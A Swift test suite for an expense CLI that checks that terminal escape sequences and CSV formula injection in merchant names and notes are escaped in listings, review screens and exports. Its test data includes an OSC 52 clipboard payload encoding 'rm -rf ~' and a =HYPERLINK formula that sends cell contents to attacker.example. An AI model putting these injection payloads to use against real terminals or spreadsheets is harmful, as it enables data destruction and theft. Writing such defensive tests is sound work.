import Foundation
import Testing

/// Text from receipts, e-invoices and web forms reaches the terminal and spreadsheets escaped:
/// no control character is printed raw, no table row is split, no CSV cell runs as a formula.
@Suite struct OutputInjectionTests {
    /// OSC 52 (write the clipboard), a CSI colour, a carriage return, a line break and a
    /// right-to-left override, as an attacker would put them into a merchant's name.
    static let hostileMerchant = "Caf\u{1B}]52;c;cm0gLXJmIH4=\u{07}e\u{1B}[31m\rFAKE\nrow\u{202E}gpj.exe"

    @Test func controlCharactersAreEscapedInTablesAndShow() throws {
        let vault = try TemporaryVault()
        defer { vault.remove() }
        let added = try vault.run([
            "expense", "add", "--merchant", Self.hostileMerchant, "--total", "4.20", "--currency", "EUR",
            "--date", "2025-03-12", "--notes", "line one\u{1B}[2J",
        ])
        try #require(added.status == 0, "\(added.stderr)")
        for command in [
            ["expense", "list"], ["expense", "show", "1"], ["search", "FAKE"], ["stats"],
            ["report", "--by", "merchant", "--status", "all"],
        ] {
            let result = try vault.run(command)
            #expect(result.status == 0, "\(command): \(result.stderr)")
            let raw = result.stdout.unicodeScalars.filter {
                ($0.properties.generalCategory == .control && $0 != "\n") || $0.value == 0x202E
            }
            #expect(raw.isEmpty, "\(command) printed control characters raw: \(result.stdout.debugDescription)")
        }
        let list = try vault.run(["expense", "list"]).stdout
        #expect(list.split(separator: "\n").count == 2, "one header, one row: \(list.debugDescription)")
        #expect(list.contains("\\u{1b}]52;c;"), "\(list)")
        let show = try vault.run(["expense", "show", "1"]).stdout
        #expect(show.contains("\\rFAKE\\nrow"), "\(show)")
    }

    /// `vault review` draws its own screen: a merchant's control characters are escaped
    /// there too. `script` gives it a terminal and records every byte it writes.
    @Test func reviewShowsAHostileMerchantEscaped() throws {
        let vault = try TemporaryVault()
        defer { vault.remove() }
        try #require(try vault.run(["import", VaultProcess.fixture("invoice-text-layer.pdf")]).status == 0)
        let edited = try vault.run(["expense", "edit", "1", "--merchant", "Evil\u{1B}]0;pwned\u{07}Shop"])
        try #require(edited.status == 0, "\(edited.stderr)")
        let command = "'\(VaultProcess.binary.path)' review --vault '\(vault.path)'"
        let script = "(sleep 3; printf q) | NO_COLOR=1 script -qec \"$0\" /dev/null"
        let result = try #require(try runTool("sh", ["-c", script, command]))
        #expect(result.stdout.contains("Evil\\u{1b}]0;pwned\\u{7}Shop"), "\(result.stdout.debugDescription)")
        #expect(!result.stdout.contains("\u{1B}]0;pwned"), "\(result.stdout.debugDescription)")
    }

    @Test func csvTextCellsThatCouldRunAsFormulasAreNeutralisedAndAmountsStayNumbers() throws {
        let vault = try TemporaryVault()
        defer { vault.remove() }
        for (merchant, notes) in [
            ("=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")", "+1 234"),
            ("@SUM(A1:A9)", "-note"), ("+Plus", "=1+1"), ("Café -20%", "ok"),
        ] {
            let added = try vault.run([
                "expense", "add", "--merchant=\(merchant)", "--total", "32.50", "--currency", "EUR",
                "--date", "2025-03-12", "--notes=\(notes)",
            ])
            try #require(added.status == 0, "\(added.stderr)")
        }
        let file = try vault.scratch().appendingPathComponent("expenses.csv")
        let csv = try vault.run(["export", "--format", "csv", "--status", "all", "--output", file.path])
        #expect(csv.status == 0, "\(csv.stderr)")
        let script = """
            import csv, sys
            with open(sys.argv[1], newline="", encoding="utf-8") as f:
                for row in csv.DictReader(f): print(repr(row["merchant"]), repr(row["notes"]), row["total"])
            """
        let parsed = try #require(try runTool("python3", ["-c", script, file.path]))
        let lines = parsed.stdout.split(separator: "\n").map(String.init)
        #expect(
            lines == [
                #"'\'=HYPERLINK("http://attacker.example/?"&A1,"open")' "'+1 234" 32.50"#,
                #""'@SUM(A1:A9)" "'-note" 32.50"#,
                #""'+Plus" "'=1+1" 32.50"#,
                #"'Café -20%' 'ok' 32.50"#,
            ], "\(parsed.stdout) \(parsed.stderr)")
        let report = try vault.run(["report", "--by", "merchant", "--status", "all", "--format", "csv"])
        #expect(report.stdout.contains("'=HYPERLINK") && report.stdout.contains("'+Plus"), "\(report.stdout)")
        #expect(!report.stdout.contains(",=HYPERLINK") && !report.stdout.contains(",\"=HYPERLINK"), "\(report.stdout)")
    }
}
